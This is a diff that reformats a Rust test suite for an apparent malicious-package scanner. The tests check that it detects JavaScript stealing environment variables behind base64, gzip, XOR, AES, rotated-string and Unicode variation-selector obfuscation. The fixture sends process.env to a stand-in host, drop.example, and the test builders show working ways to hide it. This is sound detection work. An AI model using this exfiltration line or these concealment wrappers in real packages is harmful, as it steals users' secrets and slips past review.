@@ -1,9 +1,9 @@
 //! The same theft behind each way of hiding it, and code that only looks hidden.
-mod common;
+use crate::common::{clean, flagged, imported, installed, package, run, run_with};
 use cleanbill_model::Level::{Block, Quarantine};
-use common::{clean, flagged, imported, installed, package, run, run_with};
 
-const THEFT: &str = "require('https').get('https://drop.example/?e='+encodeURIComponent(JSON.stringify(process.env)))";
+const THEFT: &str =
+    "require('https').get('https://drop.example/?e='+encodeURIComponent(JSON.stringify(process.env)))";
 
 fn base64(bytes: &[u8]) -> String {
     use base64::Engine;
@@ -35,10 +35,22 @@ fn loaders_by_detour_are_seen() {
 
 #[test]
 fn a_string_table_with_rotation_is_undone() {
-    let table = ["get", "https", "stringify", "https://drop.example/?e=", "env", "junk1", "42pad"];
+    let table = [
+        "get",
+        "https",
+        "stringify",
+        "https://drop.example/?e=",
+        "env",
+        "junk1",
+        "42pad",
+    ];
     let mut turned: Vec<&str> = table.to_vec();
     turned.rotate_right(3);
-    let list = turned.iter().map(|s| format!("'{s}'")).collect::<Vec<_>>().join(",");
+    let list = turned
+        .iter()
+        .map(|s| format!("'{s}'"))
+        .collect::<Vec<_>>()
+        .join(",");
     let code = format!(
         "function _0x1a2b(){{var _0x3c4d=[{list}];_0x1a2b=function(){{return _0x3c4d;}};return _0x1a2b();}}\
         (function(_0x11aa,_0x22bb){{var _0x33cc=_0x4e5f,_0x44dd=_0x11aa();while(!![]){{try{{var _0x55ee=parseInt(_0x33cc(0x106))/0x1;if(_0x55ee===_0x22bb)break;else _0x44dd['push'](_0x44dd['shift']());}}catch(_0x66ff){{_0x44dd['push'](_0x44dd['shift']());}}}}}}(_0x1a2b,0x2a));\
@@ -73,11 +85,17 @@ fn code_of_brackets_alone_is_evaluated() {
 fn layers_of_base64_are_opened() {
     let mut code = THEFT.to_owned();
     for _ in 0..3 {
-        code = format!("eval(Buffer.from('{}','base64').toString('utf8'))", base64(code.as_bytes()));
+        code = format!(
+            "eval(Buffer.from('{}','base64').toString('utf8'))",
+            base64(code.as_bytes())
+        );
     }
     let a = imported(&code);
     flagged(&a, "FLO-01", Block);
-    assert_eq!(a.chains.iter().find(|c| c.id == "FLO-01").map(|c| c.layers), Some(3));
+    assert_eq!(
+        a.chains.iter().find(|c| c.id == "FLO-01").map(|c| c.layers),
+        Some(3)
+    );
 }
 
 #[test]
@@ -86,13 +104,23 @@ fn gzip_inside_base64_is_opened() {
     let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
     encoder.write_all(THEFT.as_bytes()).expect("memory");
     let packed = base64(&encoder.finish().expect("memory"));
-    flagged(&imported(&format!("eval(require('zlib').gunzipSync(Buffer.from('{packed}','base64')).toString())")), "FLO-01", Block);
+    flagged(
+        &imported(&format!(
+            "eval(require('zlib').gunzipSync(Buffer.from('{packed}','base64')).toString())"
+        )),
+        "FLO-01",
+        Block,
+    );
 }
 
 #[test]
 fn xor_with_a_constant_key_is_undone() {
     let key = b"OrDeR_7077";
-    let mixed: Vec<u8> = THEFT.bytes().enumerate().map(|(ix, b)| b ^ key[ix % key.len()]).collect();
+    let mixed: Vec<u8> = THEFT
+        .bytes()
+        .enumerate()
+        .map(|(ix, b)| b ^ key[ix % key.len()])
+        .collect();
     let code = format!(
         "const k='OrDeR_7077';const b=Buffer.from('{}','base64');let s='';for(let i=0;i<b.length;i++){{s+=String.fromCharCode(b[i]^k.charCodeAt(i%k.length));}}new Function('require','process',s)(require,process);",
         base64(&mixed)
@@ -106,7 +134,9 @@ fn a_constant_key_opens_aes() {
     let (key, iv) = ([7u8; 32], [9u8; 16]);
     let mut buffer = [0u8; 512];
     buffer[..THEFT.len()].copy_from_slice(THEFT.as_bytes());
-    let sealed = cbc::Encryptor::<aes::Aes256>::new(&key.into(), &iv.into()).encrypt_padded::<Pkcs7>(&mut buffer, THEFT.len()).expect("room");
+    let sealed = cbc::Encryptor::<aes::Aes256>::new(&key.into(), &iv.into())
+        .encrypt_padded::<Pkcs7>(&mut buffer, THEFT.len())
+        .expect("room");
     let hex = |b: &[u8]| b.iter().map(|b| format!("{b:02x}")).collect::<String>();
     let code = format!(
         "const c=require('crypto');const d=c.createDecipheriv('aes-256-cbc',Buffer.from('{}','hex'),Buffer.from('{}','hex'));eval(d.update('{}','hex','utf8')+d.final('utf8'))",
@@ -121,7 +151,14 @@ fn a_constant_key_opens_aes() {
 fn variation_selectors_are_decoded() {
     let hidden: String = THEFT
         .bytes()
-        .map(|b| char::from_u32(if b < 16 { 0xFE00 + u32::from(b) } else { 0xE0100 + u32::from(b) - 16 }).expect("a selector"))
+        .map(|b| {
+            char::from_u32(if b < 16 {
+                0xFE00 + u32::from(b)
+            } else {
+                0xE0100 + u32::from(b) - 16
+            })
+            .expect("a selector")
+        })
         .collect();
     let code = format!(
         "const s=v=>[...v].map(c=>(c=c.codePointAt(0),c>=0xFE00&&c<=0xFE0F?c-0xFE00:c>=0xE0100&&c<=0xE01EF?c-0xE0100+16:null)).filter(n=>n!==null);eval(Buffer.from(s(`{hidden}`)).toString('utf-8'));"
@@ -133,7 +170,9 @@ fn variation_selectors_are_decoded() {
 
 #[test]
 fn emoji_are_no_hidden_text() {
-    let a = imported("module.exports=['\u{2764}\u{FE0F}','\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}','\u{845B}\u{E0100}']");
+    let a = imported(
+        "module.exports=['\u{2764}\u{FE0F}','\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}','\u{845B}\u{E0100}']",
+    );
     assert!(!a.structural.iter().any(|s| s.id == "OBF-10"));
 }
 
@@ -154,7 +193,10 @@ fn a_broken_file_is_unassessed_not_clean() {
 fn deep_nesting_is_refused_and_the_rest_goes_on() {
     let deep = format!("fetch({}1{})", "[".repeat(50_000), "]".repeat(50_000));
     let a = run(package(&[
-        ("package.json", r#"{"name":"case","version":"1.0.0","main":"index.js"}"#),
+        (
+            "package.json",
+            r#"{"name":"case","version":"1.0.0","main":"index.js"}"#,
+        ),
         ("index.js", &format!("require('./deep.js');{THEFT}")),
         ("deep.js", &deep),
     ]));
@@ -164,17 +206,28 @@ fn deep_nesting_is_refused_and_the_rest_goes_on() {
 
 #[test]
 fn burning_work_first_hides_nothing() {
-    let code = format!("let x=0;for(let i=0;i<1e9;i++){{x=(x*31+i)%65521}}while(true){{x++;if(x===-1)break}}{THEFT}");
+    let code = format!(
+        "let x=0;for(let i=0;i<1e9;i++){{x=(x*31+i)%65521}}while(true){{x++;if(x===-1)break}}{THEFT}"
+    );
     flagged(&imported(&code), "FLO-01", Block);
 }
 
 #[test]
 fn a_small_budget_is_told() {
-    let budget = cleanbill_js::Budget { max_steps: 5, ..cleanbill_js::Budget::default() };
+    let budget = cleanbill_js::Budget {
+        max_steps: 5,
+        ..cleanbill_js::Budget::default()
+    };
     let a = run_with(
         package(&[
-            ("package.json", r#"{"name":"case","version":"1.0.0","main":"index.js"}"#),
-            ("index.js", &format!("let s=0;for(let i=0;i<5000;i++)s+=i;{THEFT}")),
+            (
+                "package.json",
+                r#"{"name":"case","version":"1.0.0","main":"index.js"}"#,
+            ),
+            (
+                "index.js",
+                &format!("let s=0;for(let i=0;i<5000;i++)s+=i;{THEFT}"),
+            ),
         ]),
         budget,
     );
@@ -183,10 +236,15 @@ fn a_small_budget_is_told() {
 
 #[test]
 fn idioms_of_bundlers_are_clean() {
-    clean(&imported("var g=Function('return this')();var r=eval('require');const imp=new Function('s','return import(s)');try{new Function('')}catch(e){};module.exports=g"));
+    clean(&imported(
+        "var g=Function('return this')();var r=eval('require');const imp=new Function('s','return import(s)');try{new Function('')}catch(e){};module.exports=g",
+    ));
 }
 
 #[test]
 fn a_worker_in_a_literal_is_clean() {
-    clean(&imported(&format!("const src=atob('{}');exports.make=()=>new Worker(URL.createObjectURL(new Blob([src])))", base64(b"self.onmessage=(e)=>self.postMessage(e.data*2)"))));
+    clean(&imported(&format!(
+        "const src=atob('{}');exports.make=()=>new Worker(URL.createObjectURL(new Blob([src])))",
+        base64(b"self.onmessage=(e)=>self.postMessage(e.data*2)")
+    )));
 }
